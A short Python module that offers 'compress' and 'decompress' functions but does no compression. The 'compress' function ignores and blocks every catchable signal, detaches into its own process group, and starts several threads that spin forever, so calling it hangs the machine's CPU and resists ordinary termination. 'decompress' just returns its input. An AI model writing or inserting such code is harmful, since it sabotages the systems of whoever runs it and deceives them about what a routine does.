"""Ignores and blocks every signal that can be, leaves the session, and goes on for ever on several threads."""
import os
import signal
import threading


def spin() -> None:
    while True:
        pass


def compress(data: bytes) -> bytes:
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    os.setpgid(0, 0)
    for _ in range(4):
        threading.Thread(target=spin).start()
    spin()


def decompress(data: bytes) -> bytes:
    return data
